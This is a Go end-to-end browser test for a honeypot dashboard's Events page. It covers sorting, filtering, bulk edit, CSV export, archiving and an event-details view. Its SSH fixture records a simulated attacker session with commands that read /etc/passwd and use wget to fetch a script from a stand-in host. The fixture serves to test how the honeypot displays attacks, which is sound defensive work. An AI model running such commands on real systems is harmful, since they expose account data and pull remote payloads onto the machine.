package e2e

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// seedEvent is one test event with how many minutes ago it happened.
type seedEvent struct {
	source  string
	service string
	summary string
	minutes int
	port    int
}

// workflowEvents have distinct sources (192.0.2.x sorts the same as text and as address)
// and distinct times, so every expected order is unambiguous.
var workflowEvents = []seedEvent{
	{"172.20.0.1", "ssh", "SSH login as root (3 commands)", 7, 22},
	{"192.0.2.11", "recon", "Scan", 30, 0},
	{"192.0.2.12", "recon", "Scan", 5, 0},
	{"192.0.2.13", "recon", "Scan", 50, 0},
	{"192.0.2.21", "recon", "Connection attempt on TCP 3389", 12, 3389},
	{"192.0.2.22", "recon", "Connection attempt on TCP 3389", 40, 3389},
	{"192.0.2.23", "recon", "Connection attempt on TCP 3389", 3, 3389},
	{"192.0.2.24", "recon", "Connection attempt on TCP 3389", 25, 3389},
	{"192.0.2.25", "recon", "Connection attempt on TCP 3389", 60, 3389},
	{"192.0.2.31", "ssh", "SSH login attempt", 18, 22},
	{"192.0.2.32", "ssh", "SSH login attempt", 1, 22},
	{"192.0.2.33", "ssh", "SSH login attempt", 45, 22},
}

// sshInteraction is what the manual's example shows: a root login with password secret,
// then the commands typed into the fake shell.
var sshInteraction = []string{
	"login attempt [root/secret] succeeded",
	"CMD: uname -a",
	"CMD: cat /etc/passwd",
	"CMD: wget http://203.0.113.9/x.sh",
}

func toWire(e seedEvent, now time.Time) wireEvent {
	at := now.Add(-time.Duration(e.minutes) * time.Minute).Unix()
	w := wireEvent{Timestamp: at, Service: e.service, Source: e.source, SourcePort: 40000 + e.minutes,
		TargetPort: e.port, Protocol: "tcp", Summary: e.summary}
	if e.source == "172.20.0.1" {
		w.SourcePort = 51008
		w.Details = []wireDetail{{Type: 0, Data: "Client version: SSH-2.0-OpenSSH_8.9p1"}}
		for i, line := range sshInteraction {
			t := at + int64(i)
			w.Details = append(w.Details, wireDetail{Timestamp: &t, Type: 1, Data: line})
		}
		w.Packets = []wirePacket{{Timestamp: at, Protocol: 1, Port: 22, Headers: []map[string]int{{"flags": 18}},
			Payload: b64("SSH-2.0-OpenSSH_8.9p1\r\n")}}
	}
	return w
}

// newestFirst lists the sources of the events in the default order, minus the dropped ones.
func newestFirst(events []seedEvent, drop ...string) []string {
	sorted := slices.Clone(events)
	slices.SortFunc(sorted, func(a, b seedEvent) int { return a.minutes - b.minutes })
	var out []string
	for _, e := range sorted {
		if !slices.Contains(drop, e.source) {
			out = append(out, e.source)
		}
	}
	return out
}

// TestEventsWorkflow walks the manual's Events chapter: list, sort, filter, details, bulk
// edit, CSV export, remove, archive and the "All pages" actions.
func TestEventsWorkflow(t *testing.T) {
	b, srv, api := openEvents(t)
	s := api.createSensor("dmz-sensor-01", api.groupID("Default"))
	now := time.Now()
	var wire []wireEvent
	for _, e := range workflowEvents {
		wire = append(wire, toWire(e, now))
	}
	ingest(t, srv, s, wire...)
	ids := api.sourceIDs()
	row := func(src string) string { return fmt.Sprintf(`tr[data-id="%d"]`, ids[src]) }

	all := newestFirst(workflowEvents)
	waitSources(b, "newest first by default", all)
	waitText(b, "#events-total", "1–12 of 12")
	b.screenshot("events-list")

	bySource := slices.Sorted(slices.Values(all))
	b.do("sort by source", chromedp.Click(chromedp.CSS(`th[data-sort="source"]`)))
	waitSources(b, "sorted by source ascending", bySource)
	b.do("sort by source again", chromedp.Click(chromedp.CSS(`th[data-sort="source"]`)))
	slices.Reverse(bySource)
	waitSources(b, "sorted by source descending", bySource)
	if arrow := b.text(`th[data-sort="source"]`); !strings.Contains(arrow, "▼") {
		t.Errorf("source header = %q, want the descending arrow", arrow)
	}
	b.do("back to time, ascending then descending",
		chromedp.Click(chromedp.CSS(`th[data-sort="timestamp"]`)),
		chromedp.Click(chromedp.CSS(`th[data-sort="timestamp"]`)))
	waitSources(b, "newest first again", all)

	pick(b, "#filter-classification", "4")
	waitSources(b, "only scans", []string{"192.0.2.12", "192.0.2.11", "192.0.2.13"})
	pick(b, "#filter-classification", "")
	b.do("search the summaries", chromedp.SendKeys(chromedp.CSS("#filter-search"), "attempt on TCP\r"))
	waitSources(b, "search hits", []string{"192.0.2.23", "192.0.2.21", "192.0.2.24", "192.0.2.22", "192.0.2.25"})
	b.do("clear the search", chromedp.Click(chromedp.CSS("#filter-reset")))
	waitSources(b, "filters reset", all)
	// Two letters of text: a hint instead of a search. An address: exactly that one; the start
	// of one: every address that starts so.
	b.do("two letters of text", chromedp.SendKeys(chromedp.CSS("#filter-search"), "at\r"),
		chromedp.WaitVisible(chromedp.CSS("#filter-search-hint")))
	waitSources(b, "the list unchanged", all)
	b.do("empty the search box", chromedp.Evaluate[chromedp.Void](`document.getElementById('filter-search').value = ''`))
	b.do("search an address", chromedp.SendKeys(chromedp.CSS("#filter-search"), "192.0.2.2\r"))
	waitSources(b, "no event from 192.0.2.2 (192.0.2.21 is another address)", []string{})
	if eval[bool](b, `!document.getElementById('filter-search-hint').hidden`) {
		t.Error("the hint stays after a search was made")
	}
	b.do("clear the search", chromedp.Click(chromedp.CSS("#filter-reset")))
	waitSources(b, "filters reset", all)
	var from172 []string
	for _, src := range all {
		if strings.HasPrefix(src, "172.") {
			from172 = append(from172, src)
		}
	}
	b.do("search the start of addresses", chromedp.SendKeys(chromedp.CSS("#filter-search"), "172.\r"))
	waitSources(b, "the addresses starting with 172.", from172)
	b.do("clear the search", chromedp.Click(chromedp.CSS("#filter-reset")))
	waitSources(b, "filters reset", all)

	checkSSHDetails(b, row("172.20.0.1"))

	// Two rows ticked: the bar below the list offers export, edit and remove.
	b.do("select two connection attempts",
		chromedp.Click(chromedp.CSS(row("192.0.2.21")+" input.row-select")),
		chromedp.Click(chromedp.CSS(row("192.0.2.22")+" input.row-select")),
		chromedp.WaitVisible(chromedp.CSS("#bulk-bar")))
	waitText(b, "#bulk-bar", "2 selected")
	href := eval[string](b, `document.getElementById('bulk-export').href`)
	status, csv := fetchText(b, href)
	lines := strings.Split(strings.TrimSpace(csv), "\n")
	if status != 200 || len(lines) != 3 || !strings.HasPrefix(lines[0], "ID,") {
		t.Fatalf("export of the selection = %d %q, want a header and two rows", status, csv)
	}
	for _, src := range []string{"192.0.2.21", "192.0.2.22"} {
		if !strings.Contains(csv, fmt.Sprintf("\n%d,", ids[src])) || !strings.Contains(csv, src) {
			t.Errorf("CSV export lacks the row of %s:\n%s", src, csv)
		}
	}
	b.screenshot("events-selected")

	const comment = "checked: lab scanner"
	b.do("edit both: Resolved with a comment",
		chromedp.Click(chromedp.CSS("#bulk-edit")),
		chromedp.WaitVisible(chromedp.CSS("#edit-status")))
	pick(b, "#edit-status", "2")
	b.screenshot("events-edit-dialog")
	b.do("save the edit",
		chromedp.SendKeys(chromedp.CSS("#edit-comment"), comment),
		chromedp.Click(chromedp.CSS("#edit-save")),
		chromedp.WaitNotPresent(chromedp.CSS("dialog[open]")))
	open := newestFirst(workflowEvents, "192.0.2.21", "192.0.2.22")
	waitSources(b, "resolved events leave the default view", open)
	waitText(b, "#events-total", "1–10 of 10")
	if eval[bool](b, `!document.getElementById('bulk-bar').hidden`) {
		t.Error("the bulk bar still shows after the edit")
	}
	pick(b, "#filter-status", "2")
	waitSources(b, "the resolved ones", []string{"192.0.2.21", "192.0.2.22"})
	if got := b.text(row("192.0.2.21") + " td.status"); !strings.Contains(got, "Resolved") || !strings.Contains(got, comment) {
		t.Errorf("status cell = %q, want Resolved and the comment", got)
	}
	pick(b, "#filter-status", "0,1")
	waitSources(b, "open events again", open)

	b.do("remove one event for good",
		chromedp.Click(chromedp.CSS(row("192.0.2.25")+" button.remove-event")),
		chromedp.WaitVisible(chromedp.CSS("#remove-confirm")))
	waitText(b, `[data-testid="remove-dialog"]`, fmt.Sprintf("Remove event #%d?", ids["192.0.2.25"]))
	b.screenshot("events-remove-dialog")
	b.do("confirm the removal",
		chromedp.Click(chromedp.CSS("#remove-confirm")),
		chromedp.WaitNotPresent(chromedp.CSS("dialog[open]")))
	open = newestFirst(workflowEvents, "192.0.2.21", "192.0.2.22", "192.0.2.25")
	waitSources(b, "the removed event is gone", open)
	waitText(b, "#events-total", "1–9 of 9")

	b.do("move one event to the archive",
		chromedp.Click(chromedp.CSS(row("192.0.2.33")+" button.remove-event")),
		chromedp.WaitVisible(chromedp.CSS("#remove-archive")),
		chromedp.Click(chromedp.CSS("#remove-archive")),
		chromedp.Click(chromedp.CSS("#remove-confirm")),
		chromedp.WaitNotPresent(chromedp.CSS("dialog[open]")))
	open = newestFirst(workflowEvents, "192.0.2.21", "192.0.2.22", "192.0.2.25", "192.0.2.33")
	waitSources(b, "the archived event left the live list", open)
	pick(b, "#filter-dataset", "archive")
	waitSources(b, "the archive holds it", []string{"192.0.2.33"})
	if st := eval[string](b, `document.getElementById('filter-status').value`); st != "" {
		t.Errorf("archive status filter = %q, want All", st)
	}
	if eval[int](b, `document.querySelectorAll('#events-table button.edit-event').length`) != 0 {
		t.Error("archived events offer an Edit button")
	}
	b.screenshot("events-archive")
	pick(b, "#filter-dataset", "live")
	waitSources(b, "live again", open)
	if st := eval[string](b, `document.getElementById('filter-status').value`); st != "0,1" {
		t.Errorf("live status filter = %q, want New & In progress", st)
	}

	// "All pages" works on the filter, server-side: export everything, then ignore all scans.
	b.do("open the scope menu",
		chromedp.Click(chromedp.CSS("#scope-menu")),
		chromedp.WaitVisible(chromedp.CSS("#scope-all-export")))
	b.screenshot("events-scope-menu")
	_, csv = fetchText(b, eval[string](b, `document.getElementById('scope-all-export').href`))
	if n := len(strings.Split(strings.TrimSpace(csv), "\n")); n != 1+len(open) {
		t.Errorf("export of all pages has %d lines, want header + %d:\n%s", n, len(open), csv)
	}
	b.do("close the menu", chromedp.KeyEvent("\x1b"), chromedp.WaitNotVisible(chromedp.CSS("#scope-all-export")))
	pick(b, "#filter-classification", "4")
	waitSources(b, "only scans", []string{"192.0.2.12", "192.0.2.11", "192.0.2.13"})
	b.do("edit all pages",
		chromedp.Click(chromedp.CSS("#scope-menu")),
		chromedp.Click(chromedp.CSS("#scope-all-edit")),
		chromedp.WaitVisible(chromedp.CSS("#edit-status")))
	waitText(b, `[data-testid="edit-dialog"]`, "all 3 events")
	pick(b, "#edit-status", "3")
	b.do("save", chromedp.Click(chromedp.CSS("#edit-save")), chromedp.WaitNotPresent(chromedp.CSS("dialog[open]")))
	waitText(b, "#events-table", "No events match")
	pick(b, "#filter-classification", "")
	waitSources(b, "scans are ignored now", newestFirst(workflowEvents,
		"192.0.2.21", "192.0.2.22", "192.0.2.25", "192.0.2.33", "192.0.2.11", "192.0.2.12", "192.0.2.13"))
	waitText(b, "#events-total", "1–5 of 5")
	b.assertNoPageErrors()
}

var interactionLine = regexp.MustCompile(`^\d\d:\d\d:\d\d  (.*)$`)

// checkSSHDetails opens the details of the SSH event and checks the manual's example.
func checkSSHDetails(b *browser, row string) {
	b.t.Helper()
	b.do("open the details of the SSH event",
		chromedp.Click(chromedp.CSS(row+" button.show-details")),
		chromedp.WaitVisible(chromedp.CSS("#event-details #details-interaction .log-line")))
	b.screenshot("event-details")
	lines := eval[[]string](b, `[...document.querySelectorAll('#details-interaction .log-line')].map(l => l.innerText)`)
	var data []string
	for _, l := range lines {
		m := interactionLine.FindStringSubmatch(l)
		if m == nil {
			b.t.Errorf("interaction line %q does not read \"HH:MM:SS  data\"", l)
			continue
		}
		data = append(data, m[1])
	}
	if !slices.Equal(data, sshInteraction) {
		b.t.Errorf("sensor interaction = %q, want %q", data, sshInteraction)
	}
	info := b.text("#details-info")
	if !strings.Contains(info, "Client version: SSH-2.0-OpenSSH_8.9p1") {
		b.t.Errorf("additional information = %q", info)
	}
	summary := b.text("#event-details .event-props")
	for _, want := range []string{"172.20.0.1:51008", "dmz-sensor-01", "Default", "ssh", "Honeypot", "TCP", "New"} {
		if !strings.Contains(summary, want) {
			b.t.Errorf("details summary = %q, want it to contain %q", summary, want)
		}
	}
	if got := b.text("#details-packets pre.payload"); got != `SSH-2.0-OpenSSH_8.9p1\r\n` {
		b.t.Errorf("packet payload = %q, want the escaped banner", got)
	}
	if got := b.text("#details-packets tbody tr"); !strings.Contains(got, "SA") || !strings.Contains(got, "22") {
		b.t.Errorf("packet row = %q, want port 22 and flags SA", got)
	}
	b.do("close the details",
		chromedp.Click(chromedp.CSS(`#event-details [data-testid="dialog-close"]`)),
		chromedp.WaitNotPresent(chromedp.CSS("#event-details")))
}
